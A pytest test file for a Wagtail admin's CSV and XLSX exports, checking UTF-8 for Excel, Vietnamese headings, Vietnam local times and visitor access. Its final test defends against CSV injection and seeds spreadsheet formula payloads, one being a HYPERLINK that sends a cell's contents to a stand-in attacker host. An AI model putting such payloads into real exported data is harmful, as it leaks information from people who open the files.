"""Spreadsheets exported from the admin's reports and listings open in Excel as they read in the admin:
UTF-8 that Excel recognises (a byte order mark, `charset=utf-8`), Vietnamese column headings, and
times in Vietnam's local time as dd/mm/yyyy hh:mm."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.utils import timezone
from wagtail.log_actions import log
from wagtail.models import PageLogEntry

from catalogue.moderation import moderation_workflow
from catalogue.permissions import programme_staff_group
from traceability.factories import CertificateFactory

pytestmark = pytest.mark.django_db

BOM = b"\xef\xbb\xbf"
WHEN = datetime.datetime(2026, 11, 29, 22, 43, 12, 444972, tzinfo=datetime.UTC)  # 30/11/2026 05:43 in Vietnam


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(BOM), body[:20]
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


@pytest.fixture
def edited_product(product, admin_user):
    log(instance=product, action="wagtail.edit", user=admin_user)
    PageLogEntry.objects.update(timestamp=WHEN)  # and the product's creation
    return product


def test_the_site_history_csv_is_utf8_for_excel_with_vietnamese_local_times(admin_client, edited_product):
    response = admin_client.get("/admin/reports/site-history/?export=csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    assert rows[0][-1] == "Ngày/Giờ" and {row[-1] for row in rows[1:]} == {"30/11/2026 05:43"}
    assert "Kẹo dừa sầu riêng" in [row[1] for row in rows]


def test_the_site_history_xlsx_shows_vietnamese_local_times(admin_client, edited_product):
    response = admin_client.get("/admin/reports/site-history/?export=xlsx")

    assert {row[-1] for row in xlsx_rows(response)[1:]} == {"30/11/2026 05:43"}


@pytest.fixture
def awaiting_review(product, admin_user):
    product.save_revision(user=admin_user)
    moderation_workflow(programme_staff_group()).start(product, admin_user)
    return product


@pytest.mark.parametrize("report", ["workflow", "workflow_tasks"])
@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_workflow_reports_export_vietnamese_headings(admin_client, awaiting_review, report, export):
    response = admin_client.get(f"/admin/reports/{report}/?export={export}")

    rows = csv_rows(response) if export == "csv" else xlsx_rows(response)
    headings = rows[0]
    assert not {"workflow", "requested_by", "task", "started_at", "finished_at", "finished_by"} & set(
        headings
    )
    assert "Người gửi duyệt" in headings
    started = headings.index("Bắt đầu lúc")
    local = timezone.localtime(awaiting_review.workflow_states.get().created_at).strftime("%d/%m/%Y %H:%M")
    assert rows[1][started] == local


def test_a_listings_csv_is_utf8_for_excel(admin_client, product):
    response = admin_client.get("/admin/pack_sizes/?export=csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "Hộp 400g" in csv_rows(response)[1]


@pytest.mark.parametrize("report", ["site-history", "workflow", "workflow_tasks", "locked", "aging-pages"])
def test_the_reports_still_open_in_the_admin_and_stay_closed_to_visitors(client, admin_client, report):
    page = admin_client.get(f"/admin/reports/{report}/")
    assert page.status_code == 200
    assert f'href="/admin/reports/{report}/?export=csv' in page.content.decode().replace("&amp;", "&")
    assert client.get(f"/admin/reports/{report}/?export=csv").status_code == 302  # to the login page


def reports_in_the_menu() -> list[str]:
    """Every report the admin's Reports menu offers: Wagtail's and any an app registers."""
    from wagtail import hooks

    return sorted(item.url for item in (hook() for hook in hooks.get_hooks("register_reports_menu_item")))


def test_the_loop_below_covers_every_report_wagtail_offers():
    assert {url.split("/")[3] for url in reports_in_the_menu()} >= {
        "locked",
        "workflow",
        "workflow_tasks",
        "site-history",
        "aging-pages",
        "page-types-usage",
    }


@pytest.fixture
def locked_published_product(edited_product, admin_user):
    edited_product.save_revision(user=admin_user).publish(user=admin_user)
    return lock_and_date(edited_product, admin_user)


@pytest.fixture
def a_row_in_every_report(edited_product, admin_user):
    """Published, locked, and in moderation: a row in each report."""
    edited_product.save_revision(user=admin_user).publish(user=admin_user)
    edited_product.save_revision(user=admin_user)
    moderation_workflow(programme_staff_group()).start(edited_product, admin_user)
    return lock_and_date(edited_product, admin_user)


def lock_and_date(page, user):
    """Locked by `user`; published, locked and revised at WHEN."""
    type(page).objects.filter(pk=page.pk).update(
        locked=True, locked_at=WHEN, locked_by=user, last_published_at=WHEN
    )
    page.revisions.update(created_at=WHEN)
    page.refresh_from_db()
    return page


def utc_text_in(rows) -> list:
    """Cells that are times as Python or the database writes them, not as an editor reads them."""
    return [
        cell
        for row in rows
        for cell in row
        if isinstance(cell, datetime.datetime) or (isinstance(cell, str) and "+00:00" in cell)
    ]


@pytest.mark.parametrize("report", reports_in_the_menu())
def test_every_report_exports_a_utf8_csv_for_excel_with_vietnamese_local_times(
    admin_client, a_row_in_every_report, report
):
    response = admin_client.get(f"{report}?export=csv")
    if not response.get("Content-Disposition"):  # a report with nothing to export shows its listing
        assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
        return
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = csv_rows(response)
    assert len(rows) > 1, report
    assert utc_text_in(rows) == []


@pytest.mark.parametrize("report", reports_in_the_menu())
def test_every_report_exports_an_xlsx_with_vietnamese_local_times(
    admin_client, a_row_in_every_report, report
):
    response = admin_client.get(f"{report}?export=xlsx")
    if not response.get("Content-Disposition"):
        assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
        return
    rows = xlsx_rows(response)
    assert len(rows) > 1, report
    assert utc_text_in(rows) == []


@pytest.mark.parametrize("report", ["aging-pages", "locked"])
@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_the_aging_and_locked_pages_reports_show_the_product_in_local_time(
    admin_client, locked_published_product, report, export
):
    response = admin_client.get(f"/admin/reports/{report}/?export={export}")
    rows = csv_rows(response) if export == "csv" else xlsx_rows(response)
    product_row = next(row for row in rows if row[0] == locked_published_product.title)
    assert "30/11/2026 05:43" in product_row


def test_the_aging_pages_report_shows_a_dash_not_none_for_a_page_published_by_no_user(admin_client, product):
    # load_demo publishes with no user; Wagtail's listing printed the missing user as "None".
    product.save_revision().publish()
    response = admin_client.get("/admin/reports/aging-pages/")
    row = next(row for row in response.content.decode().split("<tr") if product.title in row)
    assert "None" not in row
    assert "—" in row


@pytest.mark.parametrize("export", ["csv", "xlsx"])
def test_a_cell_typed_as_a_formula_is_exported_as_text(admin_client, producer, export):
    """OWASP's CSV injection advice: a cell beginning with = + - @, a tab or a carriage return gets a
    leading ' so Excel or LibreOffice shows it rather than running it."""
    CertificateFactory(
        producer=producer, number='=HYPERLINK("http://evil.example/?x="&A1,"Mở")', issuer="@SUM(1+1)"
    )
    CertificateFactory(producer=producer, number="+84 123", issuer="-2+3")
    CertificateFactory(producer=producer, number="\t=1+1", issuer="\r=1+1")

    response = admin_client.get(f"/admin/certificates/?export={export}")

    rows = csv_rows(response) if export == "csv" else xlsx_rows(response)

    cells = {cell for row in rows[1:] for cell in row if isinstance(cell, str)}
    if export == "xlsx":  # XML reads a carriage return as a line feed
        cells = {cell.replace("\n", "\r") for cell in cells}
    assert {
        '\'=HYPERLINK("http://evil.example/?x="&A1,"Mở")',
        "'@SUM(1+1)",
        "'+84 123",
        "'-2+3",
        "'\t=1+1",
        "'\r=1+1",
    } <= cells
    assert not {cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")}
